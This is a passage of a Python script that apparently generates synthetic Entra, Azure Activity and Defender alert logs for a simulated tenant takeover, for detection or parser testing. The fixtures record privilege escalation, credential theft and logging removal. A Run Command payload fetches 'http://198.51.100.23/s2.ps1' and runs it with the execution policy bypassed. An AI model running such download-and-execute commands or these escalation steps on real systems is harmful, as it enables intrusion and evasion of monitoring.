                  mp("UserPrincipalName", "[]", compact([SVC_HELPDESK[2]])),
                  mp("UserType", "[]", compact(["Member"])),
                  included("AccountEnabled", "DisplayName", "UserPrincipalName", "UserType")],
                  SVC_HELPDESK[2])]),
        audit(3, "09:03:40", 7710236, "Add member to role", "RoleManagement", "Core Directory", "Assign",
              devon, role_targets("Global Administrator", GA_TEMPLATE, "TenantAdmins")),
        audit(4, "09:06:05", 1294870, "Update application \u2013 Certificates and secrets management ",
              "ApplicationManagement", "Core Directory", "Update", devon,
              [target(APP_BACKUP["objectId"], APP_BACKUP["name"], "Application", [
                  mp("KeyDescription", "[]", compact([key_new])), included("KeyDescription")])],
              details=[UA_DETAIL, {"key": "AppId", "value": APP_BACKUP["appId"]}]),
        audit(5, "09:10:22", 3861502, "Add service principal credentials", "ApplicationManagement",
              "Core Directory", "Update", devon,
              [target(APP_CI["spId"], APP_CI["name"], "ServicePrincipal", [
                  mp("KeyDescription", compact([key_ci]), compact([key_ci, key_sp])),
                  included("KeyDescription")])],
              details=[UA_DETAIL, {"key": "AppId", "value": APP_CI["appId"]}]),
        audit(6, "09:12:48", 9083317, "Consent to application", "ApplicationManagement", "Core Directory",
              "Assign", devon,
              [target(APP_CONSENT["spId"], APP_CONSENT["name"], "ServicePrincipal", [
                  mp("ConsentContext.IsAdminConsent", "", compact("False")),
                  mp("ConsentContext.IsAppOnly", "", compact("False")),
                  mp("ConsentContext.OnBehalfOfAll", "", compact("False")),
                  mp("ConsentContext.Tags", "", compact("WindowsAzureActiveDirectoryIntegratedApp")),
                  mp("ConsentAction.Permissions", "", compact(
                      f"[] => [[Id: {gid('c7')}, ClientId: {APP_CONSENT['spId']}, PrincipalId: {USERS['devon'][0]}, "
                      f"ResourceId: {gid('c8')}, ConsentType: Principal, Scope:  Mail.Read Mail.Send offline_access "
                      "User.Read, CreatedDateTime: , LastModifiedDateTime ]]; ")),
                  mp("TargetId.ServicePrincipalNames", "", compact(APP_CONSENT["appId"]))])]),
        audit(7, "09:15:31", 4470895, "Update user", "UserManagement", "Core Directory", "Update", devon,
              [target(USERS["devon"][0], None, "User", [
                  mp("StrongAuthenticationMethod",
                     compact([{"MethodType": 6, "Default": True}, {"MethodType": 7, "Default": False}]),
                     compact([{"MethodType": 6, "Default": False}, {"MethodType": 7, "Default": False},
                              {"MethodType": 5, "Default": True}])),
                  included("StrongAuthenticationMethod")], upn("devon"))]),
        audit(8, "09:18:02", 6612804, "Update conditional access policy", "Policy", "Conditional Access",
              "Update", devon,
              [target(CA_POLICY_MFA["id"], CA_POLICY_MFA["displayName"], "Policy", [
                  mp("ConditionalAccessPolicy", ca_policy_json(CA_POLICY_MFA, "enabled", None),
                     ca_policy_json(CA_POLICY_MFA, "disabled", "09:18:02"))])]),
        audit(9, "09:21:47", 2948153, "Set domain authentication", "DirectoryManagement", "Core Directory",
              "Set", devon,
              [target(None, f"fed.{DOMAIN}", "Other", [
                  mp("LiveType", compact("Managed"), compact("Federated")), included("LiveType")])]),
    ]
    write_records("entra-audit/diagnostic-auditlogs-records.json", records)

    def graph_audit(rec, initiator):
        p = rec["properties"]
        targets = []
        for tr in p["targetResources"]:
            targets.append(dict(tr, groupType=None))
        user = initiator.get("user")
        if user is not None:
            user = dict(user, userType=None, homeTenantId=None, homeTenantName=None)
            user.pop("roles", None)
        return {
            "id": p["id"], "category": p["category"], "correlationId": p["correlationId"],
            "result": p["result"], "resultReason": p["resultReason"],
            "activityDisplayName": p["activityDisplayName"],
            "activityDateTime": iso7z(*rec["_graph_time"]), "loggedByService": p["loggedByService"],
            "operationType": p["operationType"],
            "initiatedBy": {"app": initiator.get("app"), "user": user},
            "targetResources": targets, "additionalDetails": p["additionalDetails"],
        }

    delete_ca = audit(10, "09:19:10", 5120374, "Delete conditional access policy", "Policy", "Conditional Access",
                      "Delete", devon,
                      [target(CA_POLICY_LEGACY["id"], CA_POLICY_LEGACY["displayName"], "Policy", [
                          mp("ConditionalAccessPolicy", ca_policy_json(CA_POLICY_LEGACY, "enabled", None), "")])])
    delete_ca["_graph_time"] = ("09:19:10", 5120374)
    app_role = audit(11, "09:24:05", 8036615, "Add member to role", "RoleManagement", "Core Directory", "Assign",
                     by_app(APP_BACKUP), role_targets("Privileged Role Administrator", PRA_TEMPLATE),
                     details=[{"key": "User-Agent", "value": "Swagger-Codegen/1.4.0.0/csharp"}])
    app_role["_graph_time"] = ("09:24:05", 8036615)
    write_json("entra-audit/graph-directoryaudits.json", {
        "@odata.context": "https://graph.microsoft.com/v1.0/$metadata#auditLogs/directoryAudits",
        "value": [graph_audit(delete_ca, devon), graph_audit(app_role, by_app(APP_BACKUP))],
    })


# --------------------------------------------------------------------------
# Azure Activity
# --------------------------------------------------------------------------

def claims(key, ip, app_id, iat, full=True):
    """JWT claims of the caller; full=False keeps the subset a parser needs (smaller files)."""
    uid, display = USERS[key]
    c = {}
    if full:
        c.update({"aud": "https://management.core.windows.net/", "iss": f"https://sts.windows.net/{TENANT}/",
                  "iat": str(iat), "nbf": str(iat), "exp": str(iat + 4779),
                  "http://schemas.microsoft.com/claims/authnmethodsreferences": "pwd,mfa", "appidacr": "0",
                  "idtyp": "user", "http://schemas.microsoft.com/identity/claims/tenantid": TENANT, "ver": "1.0"})
    if full:
        c["name"] = display
    c.update({
        "appid": app_id, "ipaddr": ip,
        "http://schemas.microsoft.com/identity/claims/objectidentifier": uid,
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": upn(key),
    })
    return c


# Token issue times (Unix seconds) close to the sessions they belong to.
IAT_DEVON = int(datetime(2026, 11, 20, 8, 48, 15, tzinfo=timezone.utc).timestamp())
IAT_AVERY = int(datetime(2026, 11, 20, 7, 45, 12, tzinfo=timezone.utc).timestamp())


def evidence(key, role, role_def, full=True):
    e = {"role": role}
    if full:
        e.update({"roleAssignmentScope": f"/subscriptions/{SUB}",
                  "roleAssignmentId": gid("d9" if key == "devon" else "d8").replace("-", ""),
                  "roleDefinitionId": role_def.replace("-", "")})
    e.update({"principalId": USERS[key][0].replace("-", ""), "principalType": "User"})
    return e


CONTRIBUTOR_ROLE = "b24988ac-6180-42a0-ab88-20f7382dd24c"  # built-in Contributor role definition id


def activity(n, hms, frac7, op, resource_id, result, *, who="devon", status_code=None, body=None,
             response=None, extra=None, corr=None, level="Information", duration=0, sub_status=None):
    ip = ATTACKER_IP if who == "devon" else OFFICE_IP
    app = APP_AZ_CLI[0] if who == "devon" else APP_AZURE_PORTAL[0]
    iat = IAT_DEVON if who == "devon" else IAT_AVERY
    role = ("Owner", OWNER_ROLE) if who == "devon" else ("Contributor", CONTRIBUTOR_ROLE)
    signature = {"Start": "Started.", "Accept": "Accepted.", "Success": "Succeeded.", "Failure": "Failed."}[result]
    if sub_status or (status_code and result in ("Success", "Failure")):
        signature += sub_status or status_code
    props = {"eventCategory": "Administrative", "entity": resource_id, "message": op,
             "hierarchy": f"{TENANT}/{SUB}"}
    if status_code:
        props["statusCode"] = status_code
    if result != "Start":
        props["serviceRequestId"] = gid(f"7{n:02x}")
    if body is not None:
        props["requestbody"] = compact(body)
    if response is not None:
        props["responseBody"] = compact(response)
    if extra:
        props.update(extra)
    return {
        "time": iso7z(hms, frac7), "resourceId": resource_id.upper(), "operationName": op.upper(),
        "category": "Administrative", "resultType": result, "resultSignature": signature,
        "durationMs": str(duration), "callerIpAddress": ip, "correlationId": corr or gid(f"6{n:02x}"),
        "identity": {
            "authorization": {"scope": resource_id, "action": op, "evidence": evidence(who, *role, full=False)},
            "claims": claims(who, ip, app, iat, full=False),
        },
        "level": level, "location": "global", "properties": props,
    }


def nsg_rule(name, priority, port, source, protocol="Tcp"):
    return {
        "name": name,
        "properties": {
            "protocol": protocol, "sourcePortRange": "*", "destinationPortRange": port,
            "sourceAddressPrefix": source, "destinationAddressPrefix": "*", "access": "Allow",
            "priority": priority, "direction": "Inbound",
        },
    }


def build_activity_diag():
    sub_scope = f"/subscriptions/{SUB}"
    ra_id = f"{sub_scope}/providers/Microsoft.Authorization/roleAssignments/{gid('d1')}"
    ra_body = {"Id": gid("d1"), "Properties": {
        "PrincipalId": APP_BACKUP["spId"], "PrincipalType": "ServicePrincipal",
        "RoleDefinitionId": f"{sub_scope}/providers/Microsoft.Authorization/roleDefinitions/{OWNER_ROLE}",
        "Scope": sub_scope, "Condition": None, "ConditionVersion": None}}
    rdp_rule = f"{NSG_ID}/securityRules/allow-rdp-any"
    https_rule = f"{NSG_ID}/securityRules/allow-https-internal"
    diag_id = f"{sub_scope}/providers/microsoft.insights/diagnosticSettings/activitylog-to-sentinel"
    pricing_id = f"{sub_scope}/providers/Microsoft.Security/pricings/VirtualMachines"
    kv_policy_id = f"{KV_ID}/accessPolicies/add"
    run_body = {"commandId": "RunPowerShellScript", "script": [
        "iwr http://198.51.100.23/s2.ps1 -OutFile C:\\Windows\\Temp\\svc-update.ps1",
        "powershell -ep bypass -File C:\\Windows\\Temp\\svc-update.ps1"]}
    records = [
        activity(1, "08:31:20", 4401823, "Microsoft.Compute/virtualMachines/start/action", VM_ID, "Success",
                 who="avery", status_code="OK", duration=48113),
        activity(2, "08:33:05", 1160344, "Microsoft.Compute/virtualMachines/read", VM_ID, "Success",
                 who="avery", status_code="OK", duration=112),
        activity(3, "08:36:44", 7325061, "Microsoft.Network/networkSecurityGroups/securityRules/write",
                 https_rule, "Start", who="avery", body=nsg_rule("allow-https-internal", 200, "443", "10.0.0.0/8")),
        activity(4, "09:26:10", 2081559, "Microsoft.Authorization/roleAssignments/write", ra_id, "Start",
                 body=ra_body, corr=gid("6a0")),
        activity(5, "09:26:12", 9930417, "Microsoft.Authorization/roleAssignments/write", ra_id, "Success",
                 status_code="Created", sub_status="Created", corr=gid("6a0"), duration=1849),
        activity(6, "09:27:30", 5550782, "Microsoft.Authorization/roleAssignments/write",
                 f"{sub_scope}/providers/Microsoft.Authorization/roleAssignments/{gid('d2')}", "Failure",
                 status_code="Conflict", sub_status="Conflict", level="Error", duration=612,
                 extra={"statusMessage": compact({"error": {"code": "RoleAssignmentExists",
                                                            "message": "The role assignment already exists."}})}),
        activity(7, "09:31:02", 6208841, "Microsoft.Storage/storageAccounts/listKeys/action", SA_ID, "Success",
                 status_code="OK", duration=95),
        activity(8, "09:35:15", 3342670, "Microsoft.KeyVault/vaults/accessPolicies/write", kv_policy_id, "Success",
                 status_code="OK", duration=731, body={"properties": {"accessPolicies": [{
                     "tenantId": TENANT, "objectId": APP_BACKUP["spId"],
                     "permissions": {"keys": [], "secrets": ["get", "list"], "certificates": ["get", "list"]}}]}}),
        activity(9, "09:40:27", 1877903, "Microsoft.Network/networkSecurityGroups/securityRules/write",
                 rdp_rule, "Start", body=nsg_rule("allow-rdp-any", 100, "3389", "Internet"), corr=gid("6b0")),
        activity(11, "09:46:03", 8140395, "Microsoft.Compute/virtualMachines/runCommand/action", VM_ID, "Start",
                 body=run_body),
        activity(12, "09:52:40", 2267018, "Microsoft.Insights/diagnosticSettings/delete", diag_id, "Success",
                 status_code="OK", duration=402),
        activity(13, "09:55:18", 3906625, "Microsoft.Security/pricings/write", pricing_id, "Success",
                 status_code="OK", duration=1288, body={"properties": {"pricingTier": "Free"}}),
    ]
    write_jsonl("azure-activity/diagnostic-activity.jsonl", records)


def loc_value(v):
    return {"value": v, "localizedValue": v}


def arm_event(n, hms, frac7, op, resource_id, rg, rtype, status, sub_status, sub_localized, method, who="devon",
              delay_s=14):
    event_id = gid(f"8{n:02x}")
    corr = gid(f"9{n:02x}")
    ip = ATTACKER_IP if who == "devon" else OFFICE_IP
    app = APP_AZ_CLI[0] if who == "devon" else APP_AZURE_PORTAL[0]
    iat = IAT_DEVON if who == "devon" else IAT_AVERY
    submitted = t(hms) + timedelta(seconds=delay_s)
    return {
        "authorization": {"action": op, "scope": resource_id},
        "caller": upn(who), "channels": "Operation", "claims": claims(who, ip, app, iat),
        "correlationId": corr, "description": "", "eventDataId": event_id,
        "eventName": {"value": "EndRequest", "localizedValue": "End request"},
        "category": loc_value("Administrative"),
        "httpRequest": {"clientRequestId": gid(f"a{n:02x}"), "clientIpAddress": ip, "method": method},
        "id": f"{resource_id}/events/{event_id}/ticks/{net_ticks(hms, frac7)}",
        "level": "Informational", "resourceGroupName": rg,
        "resourceProviderName": loc_value(rtype.split("/")[0]), "resourceType": loc_value(rtype),
        "resourceId": resource_id, "operationId": corr, "operationName": loc_value(op),
        "properties": {"statusCode": sub_status, "serviceRequestId": gid(f"b{n:02x}"),
                       "eventCategory": "Administrative", "entity": resource_id, "message": op,
                       "hierarchy": f"{TENANT}/{SUB}"},
        "status": loc_value(status),
        "subStatus": {"value": sub_status, "localizedValue": sub_localized},
        "eventTimestamp": iso7z(hms, frac7),
        "submissionTimestamp": submitted.strftime("%Y-%m-%dT%H:%M:%S") + ".1830254Z",
        "subscriptionId": SUB, "tenantId": TENANT, "relatedEvents": [],
    }


VAULT_DELETE = ("10:02:11", 6650214)


def build_activity_arm():
    rg_backup = f"/subscriptions/{SUB}/resourceGroups/rg-lab-backup"
    ext_id = f"{VM_ID}/extensions/CustomScriptExtension"
    events = [
        arm_event(1, "09:47:30", 3310785, "Microsoft.Compute/virtualMachines/extensions/write", ext_id, RG,
                  "Microsoft.Compute/virtualMachines/extensions", "Succeeded", "Created",
                  "Created (HTTP Status Code: 201)", "PUT"),
        arm_event(2, *VAULT_DELETE, "Microsoft.KeyVault/vaults/delete", KV_ARCHIVE_ID, RG,
                  "Microsoft.KeyVault/vaults", "Succeeded", "OK", "OK (HTTP Status Code: 200)", "DELETE"),
        arm_event(3, "10:05:40", 1209337, "Microsoft.Resources/subscriptions/resourceGroups/delete", rg_backup,
                  "rg-lab-backup", "Microsoft.Resources/subscriptions/resourceGroups", "Accepted", "Accepted",
                  "Accepted (HTTP Status Code: 202)", "DELETE"),
    ]
    write_json("azure-activity/arm-events-list.json", {"value": events, "nextLink": None})
    return events


AZURE_ACTIVITY_HEADER = [
    "TenantId", "SourceSystem", "CallerIpAddress", "CategoryValue", "CorrelationId", "Authorization",
    "Authorization_d", "Claims", "Claims_d", "Level", "OperationNameValue", "Properties", "Properties_d",
    "Caller", "EventDataId", "EventSubmissionTimestamp [UTC]", "HTTPRequest", "OperationId", "ResourceGroup",
    "ResourceProviderValue", "ActivityStatusValue", "ActivitySubstatusValue", "Hierarchy", "TimeGenerated [UTC]",
    "SubscriptionId", "OperationName", "Type", "_ResourceId",
]


def azure_activity_row(hms, ms, op, display, resource_id, rg, status, sub_status, who, event_id, corr,
                       sub=SUB, status_code=None, role=("Owner", OWNER_ROLE), hierarchy=None):
    """One row of a Sentinel AzureActivity CSV export (role=None: no role evidence)."""
    ip = ATTACKER_IP if who == "devon" else OFFICE_IP
    app = APP_AZ_CLI[0] if who == "devon" else APP_AZURE_PORTAL[0]
    iat = IAT_DEVON if who == "devon" else IAT_AVERY
    hierarchy = hierarchy if hierarchy is not None else f"{TENANT}/{sub}"
    provider = op.split("/")[0].upper()
    authz = {"scope": resource_id, "action": op}
    if role:
        authz["evidence"] = evidence(who, *role)
    props = {}
    if status_code:
        props["statusCode"] = status_code
        props["serviceRequestId"] = None
    submitted = ticks_frac(t(hms), ms * 10000 + 4417) + "Z"
    props.update({
        "eventCategory": "Administrative", "entity": resource_id, "message": op, "hierarchy": hierarchy,
        "caller": upn(who), "eventDataId": event_id, "eventSubmissionTimestamp": submitted,
        "httpRequest": compact({"clientIpAddress": ip}), "resource": resource_id.rsplit("/", 1)[-1].lower(),
        "resourceGroup": rg.upper(), "resourceProviderValue": provider, "subscriptionId": sub.upper(),
        "activityStatusValue": status,
    })
    c = claims(who, ip, app, iat)
    return {
        "TenantId": WORKSPACE_ID, "SourceSystem": "Azure", "CallerIpAddress": ip, "CategoryValue": "Administrative",
        "CorrelationId": corr, "Authorization": pretty_crlf(authz), "Authorization_d": compact(authz),
        "Claims": pretty_crlf(c), "Claims_d": compact(c), "Level": "Informational",
        "OperationNameValue": op.upper(), "Properties": pretty_crlf(props), "Properties_d": compact(props),
        "Caller": upn(who), "EventDataId": event_id, "EventSubmissionTimestamp [UTC]": portal_time(hms, ms),
        "HTTPRequest": compact({"clientIpAddress": ip}), "OperationId": corr, "ResourceGroup": rg.upper(),
        "ResourceProviderValue": provider, "ActivityStatusValue": status, "ActivitySubstatusValue": sub_status,
        "Hierarchy": hierarchy, "TimeGenerated [UTC]": portal_time(hms, ms), "SubscriptionId": sub,
        "OperationName": display, "Type": "AzureActivity", "_ResourceId": resource_id.lower(),
    }


def build_activity_csv(arm_events):
    vault = arm_events[1]
    kv_diag = f"{KV_ARCHIVE_ID}/providers/microsoft.insights/diagnosticSettings/kv-audit-to-law"
    deployment = f"/subscriptions/{SUB}/resourceGroups/rg-lab-dev/providers/Microsoft.Resources/deployments/storage-baseline-20261120"
    rows = [
        azure_activity_row("08:25:47", 392, "Microsoft.Resources/deployments/write", "Create Deployment", deployment,
                           "rg-lab-dev", "Success", "Created", "avery", gid("c01"), gid("c11"),
                           status_code="Created", role=("Contributor", CONTRIBUTOR_ROLE)),
        azure_activity_row("10:00:45", 118, "Microsoft.Insights/diagnosticSettings/delete",
                           "Delete diagnostic setting", kv_diag, RG, "Success", "", "devon", gid("c02"), gid("c12"),
                           status_code="OK"),
        azure_activity_row(VAULT_DELETE[0], VAULT_DELETE[1] // 10000, "Microsoft.KeyVault/vaults/delete",
                           "Delete Key Vault", KV_ARCHIVE_ID, RG, "Success", "OK", "devon", vault["eventDataId"],
                           vault["correlationId"], status_code="OK"),
        azure_activity_row("10:08:30", 907, "Microsoft.Authorization/elevateAccess/action",
                           "Assigns the caller to User Access Administrator role", "/providers/Microsoft.Authorization",
                           "", "Success", "OK", "devon", gid("c04"), gid("c14"), sub="", status_code="OK",
                           role=None, hierarchy=""),
    ]
    write_portal_csv("azure-activity/sentinel-azureactivity.csv", AZURE_ACTIVITY_HEADER, rows)


# --------------------------------------------------------------------------
# Defender for Cloud alerts
# --------------------------------------------------------------------------

SUB_ID = f"/subscriptions/{SUB}"
BRUTE_IP = "198.51.100.140"


def alert(key, alert_type, display, description, severity, intent, techniques, sub_techniques, component,
          start, end, generated, resource_id, compromised, entities, extended, remediation):
    return {
        "key": key, "alertType": alert_type, "display": display, "description": description,
        "severity": severity, "intent": intent, "techniques": techniques, "subTechniques": sub_techniques,
        "component": component, "start": start, "end": end, "generated": generated,
        "resourceId": resource_id, "compromised": compromised, "entities": entities,
        "extended": extended, "remediation": remediation,
        "systemAlertId": system_alert_id(start[0], key),
    }


ENT_ATTACKER = ("ip", ATTACKER_IP)
ENT_DEVON = ("account", "devon")
ENT_VM = ("host", "vm-jump01")

ALERTS = {
    "run": alert(
        "6a1", "VM_RunCommandSuspiciousScript",
        "Run Command with a suspicious script was detected on your virtual machine (Preview)",
        "A Run Command invocation on vm-jump01 carried a script that downloads a second-stage PowerShell file "
        "from an external address and starts it with the execution policy bypassed.",
        "High", "Execution", ["T1651"], [], "Servers",
        ("09:46:03", 0), ("09:46:41", 0), ("09:48:12", 0), VM_ID, "vm-jump01",
        [ENT_ATTACKER, ENT_DEVON, ENT_VM],
        {"Run Command name": "RunPowerShellScript", "Invoking principal": upn("devon"),
         "Client IP address": ATTACKER_IP, "Script excerpt": "iwr http://198.51.100.23/s2.ps1 -OutFile C:\\Windows\\Temp\\svc-update.ps1",
         "resourceType": "Virtual Machine"},
        ["Confirm with the VM owner whether this Run Command was expected.",
         "If it was not, isolate vm-jump01, collect the downloaded script and rotate credentials used on the machine."]),
    "rbac": alert(
        "6a2", "ARM_AnomalousRBACRoleAssignment", "Suspicious Azure role assignment detected (Preview)",
        "The Owner role was granted on subscription contoso-lab-prod to a service principal by a user whose session "
        "came from an address and client never seen for this user.",
        "High", "LateralMovement,DefenseEvasion", ["T1098"], ["T1098.003"], "Arm",
        ("09:26:10", 0), ("09:26:12", 0), ("09:29:40", 0), SUB_ID, "contoso-lab-prod",
        [ENT_ATTACKER, ENT_DEVON, ("azure-resource", SUB_ID)],
        {"Role definition": "Owner", "Assignee object id": APP_BACKUP["spId"], "Assignee type": "ServicePrincipal",
         "Scope": SUB_ID, "Caller": upn("devon"), "Client IP address": ATTACKER_IP},
        ["Review the new role assignment and remove it if it was not approved.",
         "Check the assigning account for compromise and reset its credentials."]),
    "kvlist": alert(
        "6a3", "KV_ListGetAnomaly", "Suspicious secret listing and query in a key vault",
        "A principal that normally does not read kv-lab-secrets01 listed its secrets and then read several of them "
        "within a few minutes.",
        "Medium", "CredentialAccess", ["T1555"], ["T1555.006"], "KeyVaults",
        ("09:36:02", 0), ("09:41:55", 0), ("09:44:30", 0), KV_ID, "kv-lab-secrets01",
        [ENT_ATTACKER, ENT_DEVON, ("azure-resource", KV_ID)],
        {"Key vault name": "kv-lab-secrets01", "Operations": "SecretList, SecretGet", "Number of secrets read": "7",
         "Client IP address": ATTACKER_IP, "User principal name": upn("devon")},
        ["Rotate every secret read in this window.", "Review the vault access policies and remove unknown entries."]),
    "exfil": alert(
        "6a4", "Storage.Blob_DataExfiltration.AmountOfDataAnomaly", "Unusual amount of data extracted from a storage account",
        "Far more blob data than usual left stlabfinance01 in a short window, read with the account key from an "
        "address outside the usual ranges.",
        "High", "Exfiltration", ["T1530"], [], "Storage",
        ("09:33:10", 0), ("09:57:40", 0), ("10:04:05", 0), SA_ID, "stlabfinance01",
        [("ip", ATTACKER_IP2), ("azure-resource", SA_ID)],
        {"Storage account": "stlabfinance01", "Container": "finance-exports", "Extracted bytes": "4831838208",
         "Authentication type": "AccountKey", "Client IP address": ATTACKER_IP2},
        ["Regenerate the storage account keys.", "Review which data was read and restrict network access to the account."]),
    "rdpbf": alert(
        "6a5", "Generic_Incoming_BF_OneToOne", "Possible incoming RDP brute force attempts detected",
        "Many inbound RDP connection attempts reached vm-jump01 from a single Internet address shortly after port "
        "3389 was opened to the Internet.",
        "Informational", "PreAttack", ["T1110"], [], "Servers",
        ("10:21:00", 0), ("10:38:00", 0), ("10:41:26", 0), VM_ID, "vm-jump01",
        [("ip", BRUTE_IP), ENT_VM],
        {"Destination port": "3389", "Protocol": "TCP", "Number of connections": "1842",
         "Source IP address": BRUTE_IP},
        ["Close port 3389 to the Internet and use Just-in-time access or Azure Bastion instead.",
         "Check vm-jump01 for successful logons from this address."]),
    "defev": alert(
        "6a6", "ARM_AnomalousOperation.DefenseEvasion",
        "Suspicious invocation of a high-risk 'Defense Evasion' operation detected (Preview)",
        "The subscription's activity-log export was removed and the Defender plan for servers was set to Free by "
        "the same user within three minutes.",
        "Medium", "DefenseEvasion", ["T1562"], ["T1562.008"], "Arm",
        ("09:52:40", 0), ("09:55:19", 0), ("09:58:03", 0), SUB_ID, "contoso-lab-prod",
        [ENT_ATTACKER, ENT_DEVON, ("azure-resource", SUB_ID)],
        {"Operations": "Microsoft.Insights/diagnosticSettings/delete, Microsoft.Security/pricings/write",
         "Caller": upn("devon"), "Client IP address": ATTACKER_IP},
        ["Restore the diagnostic setting and the Defender plan.", "Investigate the calling account."]),
    "kvip": alert(
        "6a7", "KV_SuspiciousIPAccess", "Access from a suspicious IP address to a key vault",
        "kv-lab-secrets01 was accessed from an address that threat intelligence links to anonymising services.",
        "Medium", "CredentialAccess", [], [], "KeyVaults",
        ("09:35:55", 0), ("09:41:10", 0), ("09:43:02", 0), KV_ID, "kv-lab-secrets01",
        [ENT_ATTACKER, ENT_DEVON, ("azure-resource", KV_ID)],
        {"Key vault name": "kv-lab-secrets01", "Client IP address": ATTACKER_IP, "User principal name": upn("devon")},
        ["Block the address on the vault firewall.", "Rotate secrets read from this address."]),
    "saip": alert(
        "6a8", "Storage.Blob_SuspiciousIp", "Access from a suspicious IP address",
        "stlabfinance01 was read from an address that threat intelligence flags as suspicious.",
        "Medium", "PreAttack", [], [], "Storage",
        ("09:32:20", 0), ("09:33:05", 0), ("09:36:44", 0), SA_ID, "stlabfinance01",
        [("ip", ATTACKER_IP2), ("azure-resource", SA_ID)],
        {"Storage account": "stlabfinance01", "Client IP address": ATTACKER_IP2, "Authentication type": "AccountKey"},
        ["Restrict the storage firewall to known networks.", "Regenerate the account keys."]),
}


def alert_uri(a):
    rg = f"/resourceGroup/{RG}" if "/resourceGroups/" in a["resourceId"] else ""
    return ("https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/AlertBlade/alertId/"
            f"{a['systemAlertId']}/subscriptionId/{SUB}{rg}/referencedFrom/alertDeepLink/location/centralus")


def rest_entities(a):
    result = []
    for kind, value in a["entities"]:
        if kind == "ip":
            result.append({"address": value, "type": "ip"})
        elif kind == "account":
            result.append({"name": value + "." + USERS[value][1].split(" ")[1].lower(), "upnSuffix": DOMAIN,
                           "aadTenantId": TENANT, "aadUserId": USERS[value][0], "type": "account"})
        elif kind == "host":
            result.append({"hostName": value, "azureID": VM_ID, "osFamily": "Windows", "type": "host"})
        else:
            result.append({"resourceId": value, "type": "azure-resource"})
    return result


def pascal_entities(a):
    """Entities as Json.NET writes them: PascalCase, $id on each, $ref for the shared host."""
    result, next_id, host_ref = [], 3, None
    for kind, value in a["entities"]:
        ent = {"$id": str(next_id)}
        if kind == "ip":
            ent.update({"Address": value, "Type": "ip"})
        elif kind == "account":
            ent.update({"Name": value + "." + USERS[value][1].split(" ")[1].lower(), "UPNSuffix": DOMAIN,
                        "AadTenantId": TENANT, "AadUserId": USERS[value][0], "IsDomainJoined": False, "Type": "account"})
        elif kind == "host":
            ent.update({"HostName": value, "AzureID": VM_ID, "OSFamily": "Windows", "Type": "host"})
            host_ref = str(next_id)
        else:
            ent.update({"ResourceId": value, "Type": "azure-resource"})
        result.append(ent)
        next_id += 1
    if host_ref and a["alertType"].startswith("VM_"):
        result.append({"$id": str(next_id), "ProcessId": "0x1b3c", "CommandLine":
                       "powershell -ep bypass -File C:\\Windows\\Temp\\svc-update.ps1",
                       "Host": {"$ref": host_ref}, "Type": "process"})
    return result


def build_defender_rest():
    value = []
    for key in ("run", "rbac", "kvlist", "exfil", "rdpbf"):
        a = ALERTS[key]
        scope = a["resourceId"] if key in ("rbac",) else RG_ID
        value.append({
            "id": f"{scope}/providers/Microsoft.Security/locations/centralus/alerts/{a['systemAlertId']}",
            "name": a["systemAlertId"], "type": "Microsoft.Security/Locations/alerts",
            "properties": {
                "status": "Active", "timeGeneratedUtc": iso7z(*a["generated"]),
                "processingEndTimeUtc": iso7z(a["generated"][0], 4418230), "version": "2022-01-01",
                "vendorName": "Microsoft", "productName": "Microsoft Defender for Cloud",
                "productComponentName": a["component"], "alertType": a["alertType"],
                "startTimeUtc": iso7z(*a["start"]), "endTimeUtc": iso7z(*a["end"]), "severity": a["severity"],
                "isIncident": False, "systemAlertId": a["systemAlertId"],
                "correlationKey": f"cl{a['key']}K7vQ2mX9pR4sT6wY8zA1bC3dE5fG7hJ9kL0nM2=",
                "intent": a["intent"],
                "resourceIdentifiers": [
                    {"type": "AzureResource", "azureResourceId": a["resourceId"]},
                    {"type": "AAD", "aadTenantId": TENANT}],
                "compromisedEntity": a["compromised"], "alertDisplayName": a["display"],
                "description": a["description"], "remediationSteps": a["remediation"],
                "extendedProperties": a["extended"], "entities": rest_entities(a), "alertUri": alert_uri(a),
                "techniques": a["techniques"], "subTechniques": a["subTechniques"],
            },
        })
    write_json("defender-alerts/arm-security-alerts.json", {"value": value})


def export_alert(a):
    return {
        "VendorName": "Microsoft", "AlertType": a["alertType"], "ProductName": "Microsoft Defender for Cloud",
        "StartTimeUtc": iso7z(*a["start"]), "EndTimeUtc": iso7z(*a["end"]), "TimeGenerated": iso7z(*a["generated"]),
        "ProcessingEndTime": iso7z(a["generated"][0], 4418230), "Severity": a["severity"], "Status": "New",
        "ProviderAlertStatus": None, "ConfidenceLevel": None, "ConfidenceScore": None, "ConfidenceReasons": None,
        "IsIncident": False, "SystemAlertId": a["systemAlertId"], "CorrelationKey": None, "Intent": a["intent"],
        "AzureResourceId": a["resourceId"], "WorkspaceId": WORKSPACE_ID, "WorkspaceSubscriptionId": SUB,
        "WorkspaceResourceGroup": "rg-lab-sentinel", "AgentId": None, "CompromisedEntity": a["compromised"],
        "AlertDisplayName": a["display"], "Description": a["description"], "Entities": pascal_entities(a),
        "ExtendedLinks": [],
        "ResourceIdentifiers": [
            {"$id": "1", "AzureResourceId": a["resourceId"], "Type": "AzureResource", "AzureResourceTenantId": TENANT},
            {"$id": "2", "AadTenantId": TENANT, "Type": "AAD"}],
        "RemediationSteps": a["remediation"], "ExtendedProperties": a["extended"], "AlertUri": alert_uri(a),
    }


def build_defender_export():
    assessment_key = gid("e7")
    assessment = {
        "assessmentEventDataEnrichment": {"action": "Insert", "apiVersion": "2019-01-01", "isSnapshot": False},
        "securityEventDataEnrichment": {"action": "Insert", "apiVersion": "2019-01-01", "isSnapshot": False},
        "tenantId": TENANT, "type": "Microsoft.Security/assessments", "kind": None, "location": None,
        "id": f"{VM_ID}/providers/Microsoft.Security/assessments/{assessment_key}", "name": assessment_key,
        "tags": None,
        "properties": {
            "resourceDetails": {"source": "Azure", "id": VM_ID},
            "displayName": "Management ports should be closed on your virtual machines",
            "status": {"code": "Unhealthy", "cause": "", "description": "",
                       "statusChangeDate": iso7z("09:58:30", 1170442), "firstEvaluationDate": "2026-02-11T06:14:52.3321907Z"},
            "additionalData": {"exposedPorts": "3389"},
            "metadata": {"displayName": "Management ports should be closed on your virtual machines",
                         "assessmentType": "BuiltIn", "severity": "Medium", "categories": ["Networking"],
                         "userImpact": "High", "implementationEffort": "Low",
                         "threats": ["DataExfiltration", "DataSpillage", "MaliciousInsider"]},
        },
    }
    write_jsonl("defender-alerts/export-continuous.jsonl",
                [assessment, export_alert(ALERTS["run"]), export_alert(ALERTS["defev"])])


SECURITY_ALERT_HEADER = [
